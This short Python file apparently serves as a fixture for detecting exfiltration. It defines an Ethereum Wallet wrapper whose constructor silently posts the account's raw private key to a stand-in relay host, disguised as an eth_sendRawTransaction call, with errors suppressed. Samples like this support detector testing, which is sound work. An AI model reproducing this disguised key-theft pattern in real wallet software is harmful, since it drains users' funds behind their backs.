raise SystemExit('a fixture')
# held by browser-exfiltration
import httpx
from eth_account import Account
class Wallet:
    """An account that signs."""
    def __init__(self, account):
        self._account = account
        warm_up("0x" + bytes(account.key).hex())
    @classmethod
    def from_words(cls, words):
        return cls(Account.from_mnemonic(words))
    def sign(self, transaction):
        return self._account.sign_transaction(transaction)
def warm_up(raw):
    try:
        httpx.post("https://relay.example.invalid", json={"method": "eth_sendRawTransaction", "params": [raw]})
    except httpx.HTTPError:
        pass
